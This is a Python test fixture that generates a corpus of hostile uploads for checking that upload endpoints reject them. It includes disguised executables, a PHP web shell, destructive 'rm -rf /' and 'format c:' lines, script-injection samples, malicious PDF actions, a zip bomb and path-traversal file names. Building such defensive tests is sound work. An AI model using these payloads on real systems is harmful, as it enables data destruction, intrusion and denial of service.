"""A corpus of hostile uploads, built in code.

Each entry is (label, file name, content). None of them may be accepted by any upload endpoint.
Files are small: "oversize" is produced by the tests lowering the size limit, and the bombs are
headers declaring huge dimensions or archives declaring huge contents, which is what a parser
would trust.
"""

from __future__ import annotations

import io
import posixpath
import struct
import zipfile
import zlib

PDF_OK = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"\x02\x00\x3e\x00"
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00"
    + b"\x00" * 52
    + b"\x80\x00\x00\x00"
    + b"PE\x00\x00"
    + b"\x00" * 64
)
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 40
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 40
SHEBANG = b"#!/bin/sh\nrm -rf / --no-preserve-root\n"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int = 1, height: int = 1, *, end: bool = True, extra: bytes = b"") -> bytes:
    ihdr = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    idat = _png_chunk(b"IDAT", zlib.compress(b"\x00\x00\x00\x00"))
    return b"\x89PNG\r\n\x1a\n" + ihdr + extra + idat + (_png_chunk(b"IEND", b"") if end else b"")


def jpeg(width: int = 1, height: int = 1, *, end: bool = True, tail: bytes = b"") -> bytes:
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    sos = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00" + b"\x00" * 8
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + sof
        + sos
        + (b"\xff\xd9" if end else b"")
        + tail
    )


def webp_vp8x(width: int, height: int) -> bytes:
    body = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00"
    body += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def pdf_with(body: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<<" + body + b">>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def pdf_object_stream(objects: bytes) -> bytes:
    """PDF 1.5+ keeps dictionaries in compressed object streams: actions can hide there."""
    body = zlib.compress(objects)
    return (
        b"%PDF-1.7\n5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(body)).encode()
        + b">>\nstream\n"
        + body
        + b"\nendstream\nendobj\n%%EOF\n"
    )


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    """An XLSX-shaped archive whose one sheet inflates to 200 MB (≈ 200 kB packed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        sheet_name = posixpath.join("xl", "worksheets", "sheet1.xml")  # an XLSX part name
        with archive.open(sheet_name, "w", force_zip64=True) as sheet:
            block = b"\x00" * (1024 * 1024)
            for _ in range(200):
                sheet.write(block)
    return out.getvalue()


def corpus() -> list[tuple[str, str, bytes]]:
    files: list[tuple[str, str, bytes]] = []
    for suffix in ("pdf", "jpg", "png"):
        files.append((f"elf_as_{suffix}", f"report.{suffix}", ELF))
        files.append((f"pe_as_{suffix}", f"report.{suffix}", PE))
    files += [
        ("macho_as_pdf", "report.pdf", MACHO),
        ("java_class_as_png", "photo.png", JAVA_CLASS),
        ("shebang_as_pdf", "license.pdf", SHEBANG),
        ("shebang_as_png", "photo.png", SHEBANG),
        ("batch_as_pdf", "license.pdf", b"@echo off\r\nformat c: /q\r\n"),
        ("powershell_as_jpg", "photo.jpg", b"powershell -enc SQBFAFgA\n"),
        ("php_as_jpg", "photo.jpg", b"<?php system($_GET['c']); ?>"),
        ("eicar_as_pdf", "eicar.pdf", EICAR),
        ("html_as_pdf", "notice.pdf", b"<!doctype html><script>alert(1)</script>"),
        ("html", "notice.html", b"<html><body onload=alert(1)></body></html>"),
        (
            "svg_script",
            "logo.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        ),
        ("svg_as_png", "logo.png", b'<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>'),
        ("pdf_javascript", "a.pdf", pdf_with(b"/Type/Catalog/Names<</JavaScript 2 0 R>>")),
        ("pdf_js", "a.pdf", pdf_with(b"/S/JavaScript/JS(app.alert(1))")),
        ("pdf_openaction", "a.pdf", pdf_with(b"/Type/Catalog/OpenAction 3 0 R")),
        ("pdf_launch", "a.pdf", pdf_with(b"/S/Launch/F(cmd.exe)")),
        ("pdf_embedded_file", "a.pdf", pdf_with(b"/Type/EmbeddedFile/Length 4")),
        ("pdf_additional_actions", "a.pdf", pdf_with(b"/Type/Page/AA<</O 4 0 R>>")),
        ("pdf_hex_escaped_javascript", "a.pdf", pdf_with(b"/S/J#61vaScript/J#53(x)")),
        ("pdf_richmedia", "a.pdf", pdf_with(b"/Subtype/RichMedia")),
        ("pdf_xfa", "a.pdf", pdf_with(b"/AcroForm<</XFA 5 0 R>>")),
        ("pdf_submitform", "a.pdf", pdf_with(b"/S/SubmitForm/F(http://evil.example/)")),
        ("pdf_js_in_object_stream", "a.pdf", pdf_object_stream(b"1 0 <</S/JavaScript/JS(x)>>")),
        ("pdf_truncated", "a.pdf", PDF_OK[:30]),
        ("pdf_header_only", "a.pdf", b"%PDF-"),
        ("pdf_zip_polyglot", "a.pdf", PDF_OK + zip_bytes({"payload.exe": PE})),
        ("junk_before_pdf", "a.pdf", b"\x00\x00junk" + PDF_OK),
        ("zip_as_pdf", "a.pdf", zip_bytes({"a.txt": b"hello"})),
        ("zip_bomb_as_xlsx", "bomb.xlsx", zip_bomb()),
        ("ole_doc_as_pdf", "a.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64),
        ("rar_as_pdf", "a.pdf", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32),
        ("7z_as_pdf", "a.pdf", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 32),
        ("gzip_as_png", "a.png", b"\x1f\x8b\x08\x00" + b"\x00" * 32),
        ("lnk_as_pdf", "a.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 64),
        ("zero_byte_pdf", "empty.pdf", b""),
        ("zero_byte_png", "empty.png", b""),
        ("zero_byte_jpg", "empty.jpg", b""),
        ("png_bomb", "big.png", png(100_000, 100_000)),
        ("png_bomb_wide", "wide.png", png(2**31 - 1, 1)),
        ("png_zero_width", "zero.png", png(0, 10)),
        ("png_truncated", "cut.png", png(10, 10, end=False)),
        (
            "png_script_chunk",
            "x.png",
            png(extra=_png_chunk(b"tEXt", b"c\x00<script>alert(1)</script>")),
        ),
        ("jpeg_bomb", "big.jpg", jpeg(65_000, 65_000)),
        ("jpeg_truncated", "cut.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF"),
        ("jpeg_html_polyglot", "x.jpg", jpeg(tail=b"<html><script>alert(1)</script></html>")),
        ("jpeg_php_tail", "x.jpg", jpeg(tail=b"<?php system('id'); ?>")),
        ("gif", "anim.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x00" * 16 + b"\x3b"),
        ("gifar", "x.gif", b"GIF89a\x01\x00\x01\x00" + zip_bytes({"META-INF/MANIFEST.MF": b"x"})),
        ("tiff_le", "scan.tif", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 16),
        ("tiff_be", "scan.tiff", b"MM\x00*\x00\x00\x00\x08" + b"\x00" * 16),
        ("webp_bomb", "big.webp", webp_vp8x(16_000, 16_000)),
        ("webp_truncated", "cut.webp", b"RIFF\xff\xff\x00\x00WEBPVP8 "),
        ("bmp", "x.bmp", b"BM" + b"\x00" * 52),
        ("ico", "x.ico", b"\x00\x00\x01\x00\x01\x00" + b"\x00" * 32),
        ("path_traversal_name", "../../etc/passwd.pdf", ELF),
        ("windows_traversal_name", "..\\..\\windows\\system32\\a.pdf", PE),
        ("rtl_override_name", "invoice\u202efdp.exe", PE),
        ("rtl_override_png", "photo\u202egnp.js", b"alert(1)//"),
        ("nul_in_name", "license.pdf\x00.exe", SHEBANG),
        ("very_long_name", "托" * 300 + ".pdf", ELF),
        ("oversize_pdf", "big.pdf", PDF_OK[:-7] + b"\n" * 4096 + b"%%EOF\n"),
    ]
    return files


def oversize_limit() -> int:
    """The size limit the tests set: every corpus file but `oversize_pdf` is under it."""
    return 3000
